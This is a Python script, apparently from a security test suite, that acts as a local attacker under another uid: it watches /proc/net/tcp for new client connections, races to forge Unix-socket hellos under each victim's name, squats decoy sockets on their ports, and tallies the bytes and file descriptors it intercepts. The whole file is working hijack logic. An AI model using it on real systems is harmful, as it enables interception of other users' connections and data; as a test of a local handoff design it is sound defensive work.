"""The hijack race (run as the attacker, another uid): watches
/proc/net/tcp as fast as it can for new client ports connecting to SPORT
and at once queues HELLOS forged hellos naming each (its own Unix socket
bound to the client's name with a nonce of its own, connected to the
listener's rendezvous). With --decoy it also holds, per port, a UDP socket
bound and connected to the victim's two endpoints ("udp"), or tries a TCP
socket bound to the victim's port ("tcp"), or both. Reads everything that
reaches its hellos until stdin closes, then prints one JSON line: ports
named, hellos queued, decoys held, and the bytes and descriptors it got."""
import argparse
import json
import os
import random
import select
import socket
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from lfsec import ADDR, FAMILY, client_name, fds_in, rendezvous, tcp_clients  # noqa: E402

ap = argparse.ArgumentParser()
ap.add_argument("fam", choices=["4", "6"])
ap.add_argument("sport", type=int)
ap.add_argument("ino", type=int)
ap.add_argument("--hellos", type=int, default=2)
ap.add_argument("--decoy", choices=["none", "udp", "tcp", "both"], default="none")
a = ap.parse_args()

seen = tcp_clients(a.fam, a.sport)  # what was there before: not the victims
named, hellos, refused, decoys, bytes_, fds = [], [], 0, {"udp": 0, "tcp": 0, "tcp_refused": 0}, 0, 0
held = []


def forge(port):
    global refused
    for _ in range(a.hellos):
        u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        u.setblocking(False)
        try:
            u.bind(client_name(a.fam, port, a.sport, random.getrandbits(48)))
            u.connect(rendezvous(a.fam, a.ino))
            hellos.append(u)
        except OSError:
            refused += 1
            u.close()
    if a.decoy in ("udp", "both"):
        d = socket.socket(FAMILY[a.fam], socket.SOCK_DGRAM)
        try:
            d.bind((ADDR[a.fam], port))
            d.connect((ADDR[a.fam], a.sport))
            held.append(d)
            decoys["udp"] += 1
        except OSError:
            d.close()
    if a.decoy in ("tcp", "both"):
        d = socket.socket(FAMILY[a.fam])
        d.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        d.setblocking(False)
        try:
            d.bind((ADDR[a.fam], port))
            d.connect_ex((ADDR[a.fam], a.sport))
            held.append(d)
            decoys["tcp"] += 1
        except OSError:
            decoys["tcp_refused"] += 1
            d.close()


poller = select.poll()
poller.register(sys.stdin, select.POLLIN)
by_fd = {}


def drain(u):
    """Reads what reached one hello; False once its other end is gone."""
    global bytes_, fds
    try:
        while True:
            msg, anc, _, _ = u.recvmsg(65536, socket.CMSG_SPACE(4 * 64))
            bytes_ += len(msg)
            fds += fds_in(anc)
            if not msg and not anc:
                return False
    except BlockingIOError:
        return True
    except OSError:
        return False


print("ready", flush=True)
done = False
while not done:
    for port in tcp_clients(a.fam, a.sport) - seen:
        seen.add(port)
        named.append(port)
        n = len(hellos)
        forge(port)
        for u in hellos[n:]:
            by_fd[u.fileno()] = u
            poller.register(u, select.POLLIN)
    for fd, _ in poller.poll(0):
        if fd == sys.stdin.fileno():
            done = True
        elif not drain(by_fd[fd]):
            poller.unregister(fd)
for u in hellos:
    drain(u)
print(json.dumps({"named": named, "hellos": len(hellos), "refused": refused, "decoys": decoys,
                  "bytes": bytes_, "fds": fds}), flush=True)
